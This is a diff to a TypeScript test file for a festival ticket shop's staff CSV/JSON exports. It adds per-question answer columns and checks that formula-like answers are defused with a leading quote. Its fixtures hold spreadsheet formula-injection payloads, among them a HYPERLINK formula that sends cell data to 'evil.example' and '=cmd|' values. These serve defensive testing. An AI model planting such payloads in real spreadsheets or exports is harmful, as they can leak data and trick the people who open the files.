@@ -1,4 +1,4 @@
-import { english, isoInZone, staffAdminMessages, staffApi, staffExportMessages, type Order } from '@festival/contract';
+import { english, isoInZone, questionDefinition, staffAdminMessages, staffApi, staffExportMessages, type Order, type QuestionDefinitionInput } from '@festival/contract';
 import { and, asc, eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { testEngines } from '../../../test/databases';
@@ -7,9 +7,11 @@ import { staffCall } from '../../../test/staff-call';
 import { signedInStaff } from '../../../test/staff-sign-in';
 import { createStatementRecorder } from '../../../test/statement-recorder';
 import { createTestShop, type TestShop } from '../../../test/test-shop';
-import { checkinLists, checkins, checkinStates, customers, events, invoices, orders, scanners, shopItems, staffAudit, tickets, travelTimes } from '../../db/schema';
+import { checkinLists, checkins, checkinStates, customers, events, invoices, orders, productQuestions, questionAnswers, scanners, shopItems, staffAudit, tickets, travelTimes } from '../../db/schema';
+import { questionColumns, upsertQuestion } from '../catalog/questions.queries';
 import { CSV_BOM, readCsv, undefused } from './csv';
 import { timeLimit } from '../../../test/time-limits';
+import { answerColumn } from './exports.service';
 
 const SECRET = 'exports-test-secret-of-at-least-32-characters';
 const HOSTILE_BUYER = '=HYPERLINK("http://evil.example/?"&A1,"click")';
@@ -185,6 +187,55 @@ describe.each(testEngines())('the exports on %s', (engine) => {
     expect((await shop.database.db.select().from(staffAudit).where(sql`${staffAudit.action} like 'export.%'`)).length).toBe(before + 2);
   });
 
+  it('exports a column per question code with each ticket’s answer, the order’s own repeated on each of its tickets; words as the page shows them, formula-safe', async () => {
+    const db = shop.database.db;
+    const items = await db.select({ id: shopItems.id, code: shopItems.externalCode }).from(shopItems);
+    const idOf = (code: string) => items.find((item) => item.code === code)!.id;
+    const ask = async (product: string, questions: QuestionDefinitionInput[]) => {
+      for (const [sort, question] of questions.entries()) await upsertQuestion(db, questionColumns(questionDefinition.parse(question), idOf(product), sort));
+    };
+    await ask('NWF27-WEEKEND', [
+      { code: 'size', kind: 'choice', label: 'T-shirt size', options: [{ code: 's', label: 'Small' }, { code: 'm', label: 'Medium' }] },
+      { code: 'diet', kind: 'multi', label: 'Diet', options: [{ code: 'veg', label: 'Vegetarian' }, { code: 'nuts', label: 'No nuts, please' }] },
+      { code: 'arrival', kind: 'date', label: 'Arrival' },
+      { code: 'contact', kind: 'text', label: 'Emergency contact', per: 'order' },
+      { code: 'unused', kind: 'yes_no', label: 'Nobody answered this' },
+      { code: 'retired', kind: 'yes_no', label: 'Archived, never answered', archived: true },
+    ]);
+    // The day ticket asks a question of the same code: one column for both.
+    await ask('NWF27-DAY-SAT', [{ code: 'size', kind: 'choice', label: 'Size', options: [{ code: 'l', label: 'Large' }] }]);
+    await ask('OTHER27-DAY', [{ code: 'other', kind: 'text', label: 'Another event’s question' }]);
+    const questionId = async (product: string, code: string) =>
+      (await db.select({ id: productQuestions.id }).from(productQuestions).where(and(eq(productQuestions.shopItemId, idOf(product)), eq(productQuestions.code, code))))[0]!.id;
+    const [first, second, day, shuttle] = order.tickets;
+    const idOfTicket = async (code: string) => (await db.select({ id: tickets.id }).from(tickets).where(eq(tickets.code, code)))[0]!.id;
+    await db.insert(questionAnswers).values([
+      { orderId: order.id, ticketId: await idOfTicket(first!.code), questionId: await questionId('NWF27-WEEKEND', 'size'), value: 'm' },
+      { orderId: order.id, ticketId: await idOfTicket(first!.code), questionId: await questionId('NWF27-WEEKEND', 'diet'), value: ['veg', 'nuts'] },
+      { orderId: order.id, ticketId: await idOfTicket(first!.code), questionId: await questionId('NWF27-WEEKEND', 'arrival'), value: '2027-06-18' },
+      { orderId: order.id, ticketId: await idOfTicket(second!.code), questionId: await questionId('NWF27-WEEKEND', 'size'), value: 's' },
+      { orderId: order.id, ticketId: await idOfTicket(day!.code), questionId: await questionId('NWF27-DAY-SAT', 'size'), value: 'l' },
+      { orderId: order.id, ticketId: null, questionId: await questionId('NWF27-WEEKEND', 'contact'), value: '=HYPERLINK("http://evil.example/","call")' },
+    ]);
+
+    const { rows, cells, csv } = await both('attendees', 'NWF27');
+    const header = readCsv(csv)[0]!;
+    // The export's own columns, then one per question code in the order asked; another event's and an archived unanswered one left out.
+    expect(header.slice(10)).toEqual(['size', 'diet', 'arrival', 'contact', 'unused'].map(answerColumn));
+    const byCode = new Map(rows.map((row) => [row.ticket_code, row]));
+    const answersOf = (code: string) => Object.fromEntries(Object.entries(byCode.get(code)!).filter(([key]) => key.startsWith('answer.')));
+    const contact = '=HYPERLINK("http://evil.example/","call")';
+    expect(answersOf(first!.code)).toEqual({ 'answer.size': 'Medium', 'answer.diet': 'Vegetarian; No nuts, please', 'answer.arrival': '2027-06-18', 'answer.contact': contact, 'answer.unused': null });
+    expect(answersOf(second!.code)).toEqual({ 'answer.size': 'Small', 'answer.diet': null, 'answer.arrival': null, 'answer.contact': contact, 'answer.unused': null });
+    expect(answersOf(day!.code)).toMatchObject({ 'answer.size': 'Large', 'answer.contact': contact });
+    expect(answersOf(shuttle!.code)).toMatchObject({ 'answer.size': null, 'answer.contact': contact });
+    // The answer typed as a formula is defused in the file.
+    const raw = new Map(cells.map((row) => [row[5], row]));
+    expect(raw.get(first!.code)![header.indexOf(answerColumn('contact'))]).toBe(`'${contact}`);
+    // The whole shop: the other event's question gets its column.
+    expect(Object.keys((await both('attendees')).rows[0]!)).toContain(answerColumn('other'));
+  });
+
   it('exports a few thousand tickets quickly, in as many statements as a handful', async () => {
     const db = shop.database.db;
     const recorder = engine === 'postgres' ? createStatementRecorder() : null;
@@ -210,6 +261,11 @@ describe.each(testEngines())('the exports on %s', (engine) => {
         INSERT INTO tickets (code, order_id, shop_item_id, product_name, product_type, full_name, email, status, price, fee)
         SELECT 'BULKTICKET' || lpad(n::text, 8, '0'), o.id, ${item!.id}, 'Weekend', 'ticket', '=cmd|' || n, 'bulk' || n || '@example.org', 'active', 1000, 0
         FROM generate_series(1, 3000) AS n JOIN orders o ON o.code = 'BULK' || lpad((1 + (n - 1) / 10)::text, 6, '0')`);
+      // Their answers (the size question of the test before): still the same statements.
+      await db.execute(sql`
+        INSERT INTO question_answers (order_id, ticket_id, question_id, value)
+        SELECT t.order_id, t.id, q.id, to_jsonb(CASE WHEN t.id % 2 = 0 THEN 's' ELSE 'm' END)
+        FROM tickets t JOIN product_questions q ON q.shop_item_id = t.shop_item_id AND q.code = 'size' WHERE t.code LIKE 'BULKTICKET%'`);
       const [list] = await db.select().from(checkinLists).where(eq(checkinLists.code, 'NWF27-ENTRANCE'));
       await db.execute(sql`
         INSERT INTO checkin_states (ticket_id, list_id, inside, first_in_at, last_at, last_gate)
@@ -230,6 +286,7 @@ describe.each(testEngines())('the exports on %s', (engine) => {
       const bulk = JSON.parse((await exported({ what: 'attendees', format: 'json', event: 'NWF27' })).content) as Row[];
       const checked = bulk.filter((row) => String(row.ticket_code).startsWith('BULKTICKET'));
       expect(new Set(checked.map((row) => row.checkin))).toEqual(new Set(['inside', 'left', 'never']));
+      expect(new Set(checked.map((row) => row[answerColumn('size')]))).toEqual(new Set(['Small', 'Medium']));
       const lastRows = await db.select({ id: tickets.id }).from(tickets).where(and(eq(tickets.code, 'BULKTICKET00003000')));
       expect(lastRows).toHaveLength(1);
     } finally {
